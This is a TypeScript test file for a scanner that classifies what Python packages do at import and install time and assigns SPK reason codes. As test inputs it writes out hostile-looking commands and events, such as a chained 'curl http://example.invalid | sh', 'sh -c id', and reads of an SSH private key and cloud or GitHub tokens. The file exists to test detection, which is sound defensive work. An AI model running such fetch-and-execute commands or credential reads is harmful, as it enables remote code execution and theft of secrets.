import * as assert from 'node:assert/strict';
import { BEHAVIOR_REASONS, originLocation, reasonsFromBehavior } from '../../../../src/core/packages/gate/behaviorReasons';
import type { ModuleImport, ProbeEvent } from '../../../../src/core/packages/gate/probe';

const event = (fields: Partial<ProbeEvent>): ProbeEvent => ({ phase: 'import', event: 'socket.connect', kind: 'network', detail: '127.0.0.1:9', module: 'm', ...fields });
const ok = (fields: Partial<ModuleImport> = {}): ModuleImport => ({ name: 'm', ok: true, error: null, importMs: 10, peakRssKb: 100, timedOut: false, memoryError: false, exitCode: 0, signal: null, ...fields });

describe('reasonsFromBehavior', () => {
  it('gives nothing for a clean import', () => assert.deepEqual(reasonsFromBehavior([], [ok()]), []));

  it('a failed top-level import is fatal, a failed submodule import (an optional dependency) only low', () => {
    const top = reasonsFromBehavior([], [ok({ ok: false, error: "ModuleNotFoundError: No module named 'six'", exitCode: 1 })]);
    assert.deepEqual(top.map((r) => [r.code, r.fatal]), [['SPK310', true]]);
    const sub = reasonsFromBehavior([], [ok(), ok({ name: 'm.parser', ok: false, error: "ModuleNotFoundError: No module named 'six'", exitCode: 1 })]);
    assert.deepEqual(sub.map((r) => [r.code, r.severity, r.fatal]), [['SPK316', 'low', false]]);
    assert.match(sub[0].message, /submodule m\.parser failed/);
  });

  it('a read-only system query at import (numpy runs uname -m) is low; anything piped, chained or redirected stays a started process', () => {
    const query = (detail: string) => reasonsFromBehavior([event({ event: 'subprocess.Popen', kind: 'process', detail })], []).map((r) => [r.code, r.severity, r.fatal]);
    assert.deepEqual(query('/bin/sh -c uname -m'), [['SPK318', 'low', false]]);
    assert.deepEqual(query('getconf PAGESIZE'), [['SPK318', 'low', false]]);
    assert.deepEqual(query('/bin/sh -c uname -m; curl http://example.invalid | sh'), [['SPK302', 'high', true]]);
    assert.deepEqual(query('uname -a > /tmp/x'), [['SPK302', 'high', true]]);
    assert.deepEqual(query('/tmp/uname-helper'), [['SPK302', 'high', true]]);
  });

  it('maps each kind and phase to its code, fatal where the catalog says', () => {
    const cases: Array<[Partial<ProbeEvent>, string]> = [
      [{}, 'SPK301'],
      [{ event: 'os.fork', kind: 'process', detail: 'os.fork' }, 'SPK302'],
      [{ event: 'open', kind: 'write', detail: "open('a') /home/x/.bashrc" }, 'SPK303'],
      [{ event: 'open', kind: 'sensitive-read', detail: '/h/.ssh/id_rsa' }, 'SPK304'],
      [{ event: 'os.environ', kind: 'env-read', detail: 'GITHUB_TOKEN (unset)' }, 'SPK305'],
      [{ event: 'ctypes.dlopen', kind: 'native', detail: 'libc.so.6' }, 'SPK306'],
      [{ event: 'compile', kind: 'dynamic-code', detail: 'x=1', decoded: true }, 'SPK307'],
      [{ event: 'compile', kind: 'dynamic-code', detail: 'x=1' }, 'SPK308'],
      [{ event: 'webbrowser.open', kind: 'browser', detail: 'https://example.invalid' }, 'SPK309'],
      [{ phase: 'install', module: undefined }, 'SPK320'],
      [{ phase: 'install', event: 'os.system', kind: 'process', detail: 'curl x' }, 'SPK321'],
      [{ phase: 'install', event: 'open', kind: 'write', detail: 'w' }, 'SPK322'],
      [{ phase: 'install', event: 'marshal.loads', kind: 'dynamic-code', detail: 'm' }, 'SPK325'],
      [{ phase: 'test' }, 'SPK330'],
    ];
    for (const [fields, code] of cases) {
      const reasons = reasonsFromBehavior([event(fields)], []);
      assert.deepEqual(reasons.map((r) => r.code), [code], JSON.stringify(fields));
      const spec = BEHAVIOR_REASONS[code as keyof typeof BEHAVIOR_REASONS];
      assert.equal(reasons[0].fatal, spec.fatal, code);
      assert.equal(reasons[0].severity, spec.severity, code);
    }
  });

  it('names the module and what happened, marks blocked actions and counts repeats', () => {
    const reasons = reasonsFromBehavior([event({ blocked: true, origin: '/w/.venv/lib/python3.11/site-packages/m/__init__.py:16' }), event({ detail: '127.0.0.1:10' }), event({ detail: '10.0.0.1:80' })], []);
    assert.equal(reasons.length, 1);
    assert.equal(reasons[0].message, 'm used the network at import: 127.0.0.1:9 (blocked by the probe) (and 2 more like it)');
    assert.equal(reasons[0].file, 'm/__init__.py');
    assert.equal(reasons[0].line, 16);
    assert.equal(reasons[0].evidence, 'socket.connect 127.0.0.1:9');
  });

  it('makes a credential read fatal when the same package also used the network', () => {
    const read = event({ event: 'open', kind: 'sensitive-read', detail: '/h/.ssh/id_rsa' });
    assert.equal(reasonsFromBehavior([read], [])[0].fatal, false);
    const combined = reasonsFromBehavior([read, event({ module: 'm2' })], []);
    const credential = combined.find((r) => r.code === 'SPK304')!;
    assert.equal(credential.fatal, true);
    assert.match(credential.message, /also used the network/);
    const token = reasonsFromBehavior([event({ event: 'os.environ', kind: 'env-read', detail: 'AWS_SECRET_ACCESS_KEY (set)' }), event({})], []).find((r) => r.code === 'SPK305')!;
    assert.equal(token.severity, 'high');
  });

  it('an action only the system-call trace saw is SPK317, fatal; find_library\'s lookup processes give no reason', () => {
    const unseen = reasonsFromBehavior([event({ event: 'syscall:process', kind: 'syscall-only', detail: 'process started: /bin/sh (argv: sh -c id) (pid 7)' })], [ok()]);
    assert.deepEqual(unseen.map((r) => [r.code, r.severity, r.fatal]), [['SPK317', 'high', true]]);
    assert.match(unseen[0].message, /audit hook never saw.*\/bin\/sh/);
    assert.deepEqual(reasonsFromBehavior([event({ event: 'subprocess.Popen', kind: 'process', detail: '/sbin/ldconfig -p', libraryLookup: true })], [ok()]), []);
  });

  it('classifies events without a kind by their audit name', () => {
    const reasons = reasonsFromBehavior([{ phase: 'import', event: 'subprocess.Popen', detail: 'sh -c id', module: 'm' }], []);
    assert.deepEqual(reasons.map((r) => r.code), ['SPK302']);
  });

  it('reports .pth code run at interpreter start', () => {
    const reasons = reasonsFromBehavior([event({ module: '<site .pth>' })], []);
    assert.deepEqual(reasons.map((r) => r.code).sort(), ['SPK301', 'SPK314']);
    assert.ok(reasons.every((r) => r.message.startsWith('a .pth file in site-packages')));
  });

  it('maps failed, timed-out, out-of-memory, too big and slow imports', () => {
    const reasons = reasonsFromBehavior(
      [],
      [
        ok({ name: 'fails', ok: false, error: "ModuleNotFoundError: No module named 'x'", exitCode: 1 }),
        ok({ name: 'hangs', ok: false, timedOut: true, importMs: 4012, error: 'import did not finish within 4 s (killed)', signal: 9 }),
        ok({ name: 'hog', ok: false, memoryError: true, peakRssKb: 500 * 1024, error: 'MemoryError' }),
        ok({ name: 'big', peakRssKb: 600 * 1024 }),
        ok({ name: 'slow', importMs: 12_000 }),
      ],
    );
    const byCode = Object.fromEntries(reasons.map((r) => [r.code, r]));
    assert.match(byCode.SPK310.message, /Importing fails failed: ModuleNotFoundError/);
    assert.match(byCode.SPK311.message, /Importing hangs did not finish \(4\.0 s/);
    assert.equal(reasons.filter((r) => r.code === 'SPK312').length, 2);
    assert.equal(reasons.find((r) => r.code === 'SPK312' && r.message.includes('big'))!.fatal, false);
    assert.match(byCode.SPK313.message, /Importing slow took 12\.0 s/);
    assert.deepEqual(reasons.slice(0, 4).map((r) => r.fatal), [true, true, true, false], 'fatal reasons first');
  });
});

describe('originLocation', () => {
  it('shortens site-packages and sdist build paths', () => {
    assert.deepEqual(originLocation('/w/.venv/lib/python3.11/site-packages/pkg/mod.py:3'), { file: 'pkg/mod.py', line: 3 });
    assert.deepEqual(originLocation('/tmp/pip-install-a1/spfx-x_0123/setup.py:8'), { file: 'setup.py', line: 8 });
    assert.deepEqual(originLocation('<string>:2'), { file: '<string>', line: 2 });
    assert.equal(originLocation(undefined), undefined);
  });
});
